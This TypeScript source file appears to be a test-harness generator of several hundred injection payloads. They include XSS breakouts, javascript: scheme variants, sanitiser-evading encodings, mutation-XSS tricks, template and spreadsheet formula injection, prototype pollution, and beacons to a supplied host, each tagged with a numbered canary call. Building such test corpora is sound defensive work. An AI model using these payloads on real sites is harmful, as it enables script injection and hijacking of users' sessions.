// Texts that try to become code where a page is careless, in families of our own. Each calls `canary(number)`, or asks `host` for something.

/** At least 500, all different; the number in each is its place in the list. */
export function payloads(host: string): string[] {
  const made: ((code: string, n: number) => string)[] = [
    ...bare(host),
    ...BREAKOUTS.flatMap((out) => CORES.map((core) => (code: string) => out + core(code))),
    ...EVENTS.flatMap((event) => TAGS.map((tag) => (code: string) => tag(event, code))),
    ...SCHEMES.flatMap((scheme) => LINKS.map((link) => (code: string) => link(scheme(code)))),
    ...DISGUISES.flatMap((disguise) => CORES.map((core) => (code: string) => disguise(core(code)))),
  ];
  return made.map((make, n) => make(`canary(${n})`, n));
}

const CORES: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code: string) => `<details open ontoggle=${code}>`,
];

/** Ways out of where a text may stand: elements, attributes, scripts with JSON, styles, comments, CDATA, SVG, addresses. */
const BREAKOUTS = [
  "", '">', "'>", "`>", "</script>", "</SCRIPT >", "<!--<script>", "--><", "--!>", "]]>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</select>",
  "</iframe>", "</svg>", "</text></svg>", "</tspan></text>", "</math>", "</p></div></article>", '"}]}</script>', '\\"}</script>', "\\u003c/script\\u003e", '"/>', "'/>", "<![CDATA[", "<?xml ?>",
  "%22%3E", "&quot;&gt;", "url(", "*/}</style>", "\u2028</script>", "</xmp>", "</noembed>", "</plaintext>",
];

const EVENTS = ["onload", "onerror", "onfocus", "onbegin", "ontoggle", "onanimationstart", "onpointerover", "onbeforematch", "onscroll", "onpageshow", "onauxclick", "oncanplay"];
const TAGS = [
  (event: string, code: string) => `<img src=x ${event}="${code}">`,
  (event: string, code: string) => `"${event}="${code}" autofocus tabindex=1 x="`,
  (event: string, code: string) => `' ${event}='${code}' autofocus tabindex=1 x='`,
  (event: string, code: string) => `<svg><animate ${event}=${code} attributeName=x dur=1s></svg>`,
  (event: string, code: string) => `<input autofocus ${event}=${code}>`,
  (event: string, code: string) => `<video src=x ${event}=${code}><source ${event}=${code}></video>`,
  (event: string, code: string) => `<body ${event}=${code}>`,
];

const SCHEMES = [
  (code: string) => `javascript:${code}`,
  (code: string) => `JaVaScRiPt:${code}`,
  (code: string) => `\u0001javascript:${code}`,
  (code: string) => `java\tscript:${code}`,
  (code: string) => `java\nscript:${code}`,
  (code: string) => `javascript&colon;${code}`,
  (code: string) => `&#106;avascript:${code}`,
  (code: string) => `javascript://x%0a${code}`,
  (code: string) => `vbscript:${code}`,
  (code: string) => `data:text/html,<script>parent.${code}</script>`,
  (code: string) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code: string) => `blob:javascript:${code}`,
];
const LINKS = [
  (address: string) => address,
  (address: string) => `[a link](${address})`,
  (address: string) => `[a link](<${address}>)`,
  (address: string) => `![a picture](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[a link][ref]\n\n[ref]: ${address}`,
  (address: string) => `<a href="${address}" autofocus>a</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<form action="${address}"><input type=submit autofocus></form>`,
  (address: string) => `<math><maction actiontype=statusline xlink:href="${address}">x</maction></math>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<svg><use href="${address}"/></svg>`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<base href="${address}//">`,
];

const DISGUISES = [
  (text: string) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => text.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
  (text: string) => text.replaceAll("<", "\\x3c"),
  (text: string) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text: string) => text.replaceAll("<", "<\u0000"),
  (text: string) => `\u0000${text}`,
  (text: string) => `\ufeff${text}`,
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => text.replaceAll("script", "scr\u00adipt"),
  (text: string) => text.replaceAll(" ", "\u000c").replaceAll("=", "\u000c=\u000c"),
  (text: string) => text.replaceAll(" ", "/"),
  (text: string) => text.replace(/[a-z]/g, (letter) => letter.toUpperCase()).replaceAll("CANARY", "canary"),
  (text: string) => `\`\`\`html\n${text}\n\`\`\``,
  (text: string) => `> | ${text} |\n> |---|\n> | ${text} |`,
  (text: string) => `[^1]: ${text}\n\n[^1]`,
  (text: string) => `${"<div>".repeat(200)}${text}`,
  (text: string) => `<a title="${text}`,
  (text: string) => `<style><img title="</style>${text}">`,
  (text: string) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
  (text: string) => `<svg><desc>${text}</desc><foreignObject>${text}</foreignObject></svg>`,
  (text: string) => `<template shadowrootmode=open>${text}</template>`,
];

/** Those that are no markup: templates, styles, format strings, formulas, prototypes, and what asks another host. */
function bare(host: string): ((code: string, n: number) => string)[] {
  return [
    (code) => `{{constructor.constructor('${code}')()}}`,
    (code) => `\${${code}}`,
    (code) => `#{${code}}`,
    (code) => `<%= ${code} %>`,
    (code) => `{%25 ${code} %25}`,
    (code) => `'-${code}-'`,
    (code) => `"-${code}-"`,
    (code) => `\`-${code}-\``,
    (code) => `\\'-${code}//`,
    (code) => `\\"-${code}//`,
    (code) => `</div>{\${${code}}}`,
    (code) => `__proto__[onload]=${code}`,
    (code) => `{"__proto__":{"innerHTML":"<img src=x onerror=${code}>"}}`,
    (code) => `=HYPERLINK("javascript:${code}")`,
    (code) => `@SUM(1+1)*cmd|'${code}'!A0`,
    (code) => `%s%n%x{0}{}{:?}${code}`,
    (code) => `\u001b]8;;javascript:${code}\u0007x\u001b]8;;\u0007`,
    (code) => `x;}*{background:expression(${code})}`,
    (_, n) => `<img src="${host}/hit-${n}">`,
    (_, n) => `<script src="${host}/hit-${n}"></script>`,
    (_, n) => `<link rel=stylesheet href="${host}/hit-${n}">`,
    (_, n) => `<link rel=prefetch href="${host}/hit-${n}">`,
    (_, n) => `x;background:url(${host}/hit-${n})`,
    (_, n) => `"><style>*{background:url(${host}/hit-${n})}</style>`,
    (_, n) => `<style>@import "${host}/hit-${n}";</style>`,
    (_, n) => `<iframe src="${host}/hit-${n}"></iframe>`,
    (_, n) => `<object data="${host}/hit-${n}"></object>`,
    (_, n) => `<meta http-equiv=refresh content="0;url=${host}/hit-${n}">`,
    (_, n) => `<video poster="${host}/hit-${n}" src="${host}/hit-${n}"></video>`,
    (_, n) => `<svg><image href="${host}/hit-${n}"/></svg>`,
    (_, n) => `![a picture](${host}/hit-${n})`,
    (_, n) => `<body background="${host}/hit-${n}">`,
    (_, n) => `<input type=image src="${host}/hit-${n}">`,
    (_, n) => `<svg style="fill:url(${host}/hit-${n}#a)"><rect filter="url(${host}/hit-${n}#b)"/></svg>`,
  ];
}
